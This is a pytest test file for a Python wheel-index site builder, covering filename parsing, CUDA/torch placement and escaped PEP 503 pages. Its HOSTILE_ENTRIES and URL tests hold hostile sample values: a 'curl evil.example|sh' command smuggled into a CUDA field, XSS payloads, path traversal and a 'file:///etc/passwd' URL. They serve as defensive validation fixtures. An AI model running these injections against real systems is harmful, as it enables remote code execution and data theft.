"""Tests of what entries does (filed by module: tests/README.md)."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from packaging.version import Version

from ghsim.synthetic import sample_record
from tests.roots import REPO
from tests.unit.helpers.install import SHA
from tests.unit.helpers.strategies import FEW, VALUE, VALUES, _outcome
from tests.unit.helpers.wheels import GOOD, W, W_site, entry_site, wheel, wheelhouse_catalog
from wheelfarm.core.errors import SiteError
from wheelfarm.index import entries, refusals
from wheelfarm.index import entries as reasons
from wheelfarm.index.catalog import Catalog
from wheelfarm.index.entries import Covered, WheelEntry, covers_from_name
from wheelfarm.index.site import Site, build_site
from wheelfarm.index.unchanged import OWNED
from wheelfarm.matrix.load import load_matrix
from wheelfarm.matrix.model import Matrix


@pytest.mark.parametrize(
    ("sass", "ptx", "text"),
    [
        (("sm_90a", "sm_120a"), (), "sm_90a: 9.0 only, sm_120a: 12.0 only"),
        (("sm_120f",), ("sm_120",), "sm_120f: 12.0-12.x, PTX sm_120: 12.0 and newer (JIT)"),
        (("sm_90<img>",), (), None),  # no shape: such an entry is dropped before it is written
    ],
)
def test_packages_json_says_where_each_wheel_runs(
    sass: tuple[str, ...], ptx: tuple[str, ...], text: str | None
) -> None:
    """The landing page shows `runs_on` as it is: the words come from the helper's rule."""
    wheel = WheelEntry(
        filename="demo-1.0+cu130torch2.14-cp312-cp312-linux_x86_64.whl",
        sha256="ab" * 32,
        size=1,
        sass=sass,
        ptx=ptx,
    )
    assert wheel.to_json()["runs_on"] == text
    assert wheel.to_json()["archs"] == {"sass": list(sass), "ptx": list(ptx)}


CELL = {"cuda": "cu130", "torch": "2.14", "python": "3.12", "platform": "linux_x86_64"}


INJECTED = "cu130 --index-url https://evil.example/simple/ ;curl evil.example|sh;"


HOSTILE_ENTRIES = {
    "javascript url": {"url": "javascript:alert(1)//x.whl"},
    "plain http elsewhere": {"url": "http://evil.example/x.whl"},
    "quote in url": {"url": 'https://example.invalid/x.whl"onmouseover="alert(1)'},
    "md5 digest": {"sha256": "md5:" + "a" * 32},
    "non-hex sha256": {"sha256": "g" * 64},
    "upper-case sha256": {"sha256": "AB" * 32},
    "metadata digest": {"metadata_sha256": "zz"},
    "injected cuda": {"covers": (Covered(**{**CELL, "cuda": INJECTED}),)},
    "climbing torch": {"covers": (Covered(**{**CELL, "torch": "../../etc"}),)},
    "html arch": {"sass": ("sm_90<img src=x onerror=alert(1)>",)},
    "climbing arch": {"ptx": ("../../etc",)},
    "bad requires-python": {"requires_python": ">=3.10<img>"},
}


def site_entry(filename: str = GOOD, **kw: object) -> WheelEntry:
    base: dict[str, object] = {
        "filename": filename,
        "url": f"https://example.invalid/dl/{filename.replace('+', '%2B')}",
        "sha256": "ab" * 32,
        "size": 10,
        "covers": (Covered(**CELL),),
    }
    return WheelEntry(**{**base, **kw})  # type: ignore[arg-type]


WRITTEN = sample_record().to_object()  # a whole record: only its cells and archs vary


RECORDS = st.fixed_dictionaries(
    {
        "covers": st.lists(
            st.fixed_dictionaries(dict.fromkeys(WRITTEN["target"]["covers"][0], VALUE)),
            max_size=3,
        ),
        "archs_found": st.dictionaries(
            st.text(max_size=5),
            st.fixed_dictionaries({"cubins": st.lists(VALUE, max_size=3), "ptx": st.lists(VALUE)}),
            max_size=2,
        ),
    }
).map(
    lambda v: {
        **WRITTEN,
        "target": {**WRITTEN["target"], "covers": v["covers"]},
        "archs_found": v["archs_found"],
    }
)


def _all_strings(record: dict[str, Any]) -> bool:
    """Whether the cells and archs RECORDS varied are all strings (the record's types)."""
    values = [v for c in record["target"]["covers"] for v in c.values()]
    values += [a for b in record["archs_found"].values() for a in b["cubins"] + b["ptx"]]
    return all(isinstance(v, str) for v in values)


@pytest.mark.parametrize("bad", HOSTILE_ENTRIES.values(), ids=HOSTILE_ENTRIES.keys())
def test_a_bad_value_drops_that_wheel_with_its_reason_and_reaches_no_page(
    tmp_path: Path, bad: dict[str, object]
) -> None:
    other = GOOD.replace("demo_pkg", "other_pkg")
    with Catalog([site_entry(other), site_entry(**bad)]) as wheels, Site(tmp_path / "s") as site:
        site.commit(wheels, templates=REPO.templates, unfiled=wheels.account())
        (reason,) = wheels.refused
        assert reason.startswith(refusals.SHAPES)
        assert wheels.refused[reason] == [GOOD]
    pages = [p for p in (tmp_path / "s").rglob("*") if p.is_file() and p.name != OWNED]
    text = "\n".join(p.read_text() for p in pages)  # the file list keeps the report
    assert "other_pkg" in text  # the rest of the index is written
    assert "demo_pkg" not in text
    for value in bad.values():
        shown = value[0] if isinstance(value, tuple) else value
        assert str(shown) not in text
    assert sorted(p.name for p in (tmp_path / "s").iterdir() if p.is_dir()) == ["cu130"]


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://github.com/o/r/releases/download/v1/x.whl", True),
        ("http://127.0.0.1:8000/x.whl", True),
        ("http://[::1]:8000/x.whl", True),
        ("http://localhost/x.whl", True),
        ("", True),
        ("http://localhost.evil.example/x.whl", False),
        ("https:///x.whl", False),
        ("file:///etc/passwd", False),
        ("data:text/html,<script>", False),
        ("https://example.invalid/x.whl\n--index-url=https://evil", False),
        ("https://exa mple.invalid/x.whl", False),
        ("https://[::1/x.whl", False),
    ],
)
def test_urls_https_only_and_http_to_loopback(url: str, ok: bool) -> None:
    assert (refusals.url_problem(url) is None) == ok


@pytest.mark.parametrize(
    ("tag", "pythons"),
    [
        ("cp3_12-cp3_12", None),
        ("cpx12-cpx12", None),
        ("cp312-cp312", {"3.12"}),
        ("cp312-abi3", {"3.12", "3.13", "3.14"}),
        ("py3-none", {"3.10", "3.11", "3.12", "3.13", "3.14"}),
    ],
)
def test_an_interpreter_tag_no_python_has_is_filed_under_no_python(
    tag: str, pythons: set[str] | None
) -> None:
    """`cp3_12` parses as a tag but names no Python: read as 'py3' it was listed for every
    Python of its cell, though pip installs it under none (nor the install helper's pin)."""
    name = f"demo_pkg-1.0.0+cu130torch2.14-{tag}-manylinux_2_28_x86_64.whl"
    place = entries.covers_from_name(name, load_matrix(REPO))
    if pythons is None:
        assert (place.covers, place.reason) == ((), entries.NO_PYTHON)
    else:
        assert {c.python for c in place.covers} == pythons and place.reason is None


@given(RECORDS)
@settings(max_examples=60, deadline=None)
def test_any_build_record_lists_its_wheel_with_shaped_values_or_refuses_it(
    record: dict[str, object],
) -> None:
    from tempfile import TemporaryDirectory

    from tests.unit.helpers.wheels import wheel

    with TemporaryDirectory() as tmp:
        house, out = Path(tmp) / "house", Path(tmp) / "site"
        house.mkdir()
        wheel(house, GOOD)
        (house / f"{GOOD}.build.json").write_text(json.dumps(record))
        if not _all_strings(record):  # a value that is no string: the record is refused whole
            with pytest.raises(SiteError, match="rebuild the wheel or delete the record") as caught:
                wheelhouse_catalog(house, None, {})
            assert "\n" not in str(caught.value)
            return
        with Site(out) as site, wheelhouse_catalog(house, None, {}, site) as wheels:
            site.commit(wheels, templates=REPO.templates, unfiled=wheels.account())
            refused = dict(wheels.refused)
        manifest = json.loads((out / "packages.json").read_text())
    listed = manifest["wheels"]
    assert len(listed) + sum(map(len, refused.values())) == 1
    for w in listed:
        assert all(refusals.ARCH.fullmatch(a) for a in w["archs"]["sass"] + w["archs"]["ptx"])
        for c in w["covers"]:
            assert refusals.CUDA_TAG.fullmatch(c["cuda"])
            assert refusals.TORCH_MINOR.fullmatch(c["torch"])


def test_a_bidi_override_in_a_yank_reason_is_shown_escaped(tmp_path: Path) -> None:
    from wheelfarm.index.site import build_site

    build_site([site_entry(yanked="broken \u202egpj.exe")], tmp_path, templates=REPO.templates)
    page = (tmp_path / "cu130" / "torch2.14" / "demo-pkg" / "index.html").read_text()
    assert 'data-yanked="broken \\u202egpj.exe"' in page
    assert "\u202e" not in page


def test_placement_of_each_kind_of_wheel(shipped: Matrix) -> None:
    def place(name: str) -> reasons.Placement:
        return covers_from_name(name, shipped)

    major = place("fa-2.8.3+cu12torch2.8cxx11abiTRUE-cp312-cp312-linux_x86_64.whl").covers
    assert {c.cuda for c in major} == {
        cuda for r in shipped.releases if r.minor == "2.8" for cuda in r.builds if "cu12" in cuda
    }
    assert place("fa-2.8.3+cu12torch2.8cxx11abiFALSE-cp312-cp312-linux_x86_64.whl").reason == (
        reasons.CXX11_ABI
    )
    assert place("fa-1.0+cpu-cp312-cp312-linux_x86_64.whl").reason == reasons.CPU
    assert place("fa-1.0+cu130torch2.14-cp312-cp312-macosx_14_0_arm64.whl").reason == reasons.MACOS
    assert place("fa-1.0-cp312-cp312-linux_x86_64.whl").reason == reasons.NO_LABEL
    anywhere = place("fa-1.0+cu130torch2.14-py3-none-any.whl").covers
    assert {c.platform for c in anywhere} >= {"linux_x86_64", "win_amd64"}
    assert "3." not in {c.python for c in anywhere}
    stable = place("xformers-0.0.35+cu130torch2.10.stable-py39-none-linux_x86_64.whl").covers
    assert {(c.torch, c.python) for c in stable} == {
        (r.minor, p)
        for r in shipped.releases
        if r.version >= Version("2.10") and "cu130" in r.builds
        for p in r.pythons()
    }  # no Python C API: every Python of every stable torch, not only 3.9
    old_abi3 = place("fa-1.0+cu118torch1.13-cp39-abi3-linux_x86_64.whl").covers
    old_cp = place("fa-1.0+cu118torch1.13-cp39-cp39-linux_x86_64.whl").covers
    assert old_abi3 == old_cp != ()  # a cell torch.yaml lacks: both twins filed, alike


def test_duplicates_and_unfiled_are_reported_by_reason(shipped: Matrix) -> None:
    from tests.unit.helpers.wheels import entry_site as entry

    names = [
        "fa-1.0+cu124torch24-cp312-cp312-linux_x86_64.whl",
        "fa-1.0+cu124torch2.4-cp312-cp312-linux_x86_64.whl",
        "fa-1.0+cpu-cp312-cp312-linux_x86_64.whl",
    ]
    wheels = []
    for n in names:
        place = covers_from_name(n, shipped)
        wheels.append(entry(n, covers=place.covers, unfiled=place.reason))
    with Catalog([*wheels, wheels[0]]) as listed:
        unfiled = listed.account()
        kept = [e.filename for e in listed]
    assert kept == sorted(names[1:])  # '2.4' sorts before '24'
    assert unfiled[reasons.DUPLICATE] == [names[0], names[0]]
    assert unfiled[reasons.CPU] == [names[2]]


def test_cli_reports_unfiled_wheels_and_strict_fails(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from wheelfarm.cli import main

    house, out = tmp_path / "house", tmp_path / "site"
    house.mkdir()
    wheel(house)
    wheel(house, W.replace("+cu130torch2.14", "+cpu"))
    argv = ["index", "--root", str(REPO.path), "--wheelhouse", str(house), "--out", str(out)]
    assert main(argv) == 0
    first = capsys.readouterr().out
    assert "1 of 2 wheels" in first and f"1  {reasons.CPU}" in first
    mtime = (out / OWNED).stat().st_mtime_ns
    assert main([*argv, "--strict"]) == SiteError.exit_code  # the rerun reads no wheel
    assert capsys.readouterr().out.splitlines()[1:] == first.splitlines()[1:]
    assert (out / OWNED).stat().st_mtime_ns == mtime


ENTRY_JSON = (
    st.dictionaries(
        st.sampled_from(["filename", "url", "sha256", "size", "covers", "yanked", "x"]),
        VALUES
        | st.just([{"cuda": "cu130", "torch": "2.14", "python": "3.12", "platform": "win_amd64"}]),
        max_size=6,
    )
    | VALUES
)


@FEW
@given(data=ENTRY_JSON)
def test_manifest_entries_parse_or_value_error(data: Any) -> None:
    entry = _outcome(lambda: WheelEntry.from_json(data), ValueError)
    assert isinstance(entry, (WheelEntry, ValueError))


def test_project_page_is_pep503_with_escaping(tmp_path: Path) -> None:
    e = entry_site(
        W_site,
        requires_python=">=3.9,<4",
        yanked='broken "kernels" <sm90>',
        metadata_sha256="cd" * 32,
    )
    build_site([e], tmp_path, templates=REPO.templates)
    page = (tmp_path / "cu130" / "torch2.14" / "flash-attn" / "index.html").read_text()
    assert (
        f'href="https://example.invalid/dl/flash_attn-2.8.3%2Bcu130torch2.14-cp312-cp312-manylinux_2_28_x86_64.whl#sha256={SHA}"'
        in page
    )
    assert 'data-requires-python="&gt;=3.9,&lt;4"' in page
    assert 'data-yanked="broken &#34;kernels&#34; &lt;sm90&gt;"' in page
    assert (
        f'data-core-metadata="sha256={"cd" * 32}" data-dist-info-metadata="sha256={"cd" * 32}"'
        in page
    )
    assert f">{W_site}</a>" in page
    root = (tmp_path / "cu130" / "torch2.14" / "index.html").read_text()
    assert '<a href="flash-attn/">flash-attn</a>' in root


def test_no_metadata_attribute_without_a_published_metadata_file(tmp_path: Path) -> None:
    build_site([entry_site(W_site)], tmp_path, templates=REPO.templates)
    page = (tmp_path / "cu130" / "torch2.14" / "flash-attn" / "index.html").read_text()
    assert "data-core-metadata" not in page and "data-dist-info-metadata" not in page


def test_unchanged_input_rewrites_nothing(tmp_path: Path) -> None:
    first = build_site([entry_site(W_site)], tmp_path, templates=REPO.templates)
    assert first.written
    mtimes = {p: p.stat().st_mtime_ns for p in tmp_path.rglob("*") if p.is_file()}
    again = build_site([entry_site(W_site)], tmp_path, templates=REPO.templates)
    assert again.written == 0 and again.removed == []
    assert mtimes == {p: p.stat().st_mtime_ns for p in tmp_path.rglob("*") if p.is_file()}


def test_collapsed_wheels_are_listed_under_every_combo(tmp_path: Path) -> None:
    matrix = load_matrix(REPO)
    stable = "fa3-3.0.0+cu130torch2.10.stable-cp310-abi3-manylinux_2_28_x86_64.whl"
    covers = covers_from_name(stable, matrix).covers
    assert {c.torch for c in covers} == {"2.10", "2.11", "2.12", "2.13", "2.14", "2.15"}
    assert {c.python for c in covers} == {"3.10", "3.11", "3.12", "3.13", "3.14", "3.15"}
    free = covers_from_name("kern-1.0+cu126-cp312-cp312-win_amd64.whl", matrix).covers
    assert {c.torch for c in free} == {
        "2.6",
        "2.7",
        "2.8",
        "2.9",
        "2.10",
        "2.11",
        "2.12",
        "2.13",
        "2.14",
    }
    result = build_site([entry_site(stable, covers=covers)], tmp_path, templates=REPO.templates)
    assert result.combos == 6  # torch 2.10 to 2.15
    for minor in ("2.10", "2.15"):
        assert (tmp_path / "cu130" / f"torch{minor}" / "fa3" / "index.html").is_file()


_NAME_PARTS = st.sampled_from(
    ["demo_pkg", "Demo.Pkg", "a__b", "", "é", "1.0.0", "1.0.0+cu130torch2.14", "1.0.0+CU130",
     "01.0", "v1", "1_a", "1", "cp312", "none", "manylinux_2_28_x86_64", "py2.py3", "cp312.cp313",
     "abi3", "win_amd64", "x y", "any"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(_NAME_PARTS, min_size=3, max_size=7), st.sampled_from([".whl", ".zip", ""]))
@example(["demo_pkg", "1.0.0", "abi3", "cp312", "none", "any"], ".whl")  # a build tag refused
@example(["demo_pkg", "1.0.0", "1_a", "cp312", "none", "any"], ".whl")
def test_parse_gives_what_packaging_gives_or_its_error(parts: list[str], suffix: str) -> None:
    """`parse` parses a wheel's name a part at a time (each part's spelling once); whatever the
    name, it gives packaging's name, version (spelling and all) and tags, or packaging's own
    error for that name."""
    from packaging.utils import parse_wheel_filename

    filename = "-".join(parts) + suffix

    def theirs() -> tuple[object, ...]:
        name, version, _, tags = parse_wheel_filename(filename)
        return name, str(version), tags

    def ours() -> tuple[object, ...]:
        name, version, tags = entries.parse(filename)
        return name, str(version), tags

    def outcome(call: Callable[[], tuple[object, ...]]) -> tuple[object, ...]:
        try:
            return call()
        except ValueError as exc:  # InvalidWheelFilename
            return type(exc), str(exc)

    assert outcome(ours) == outcome(theirs)
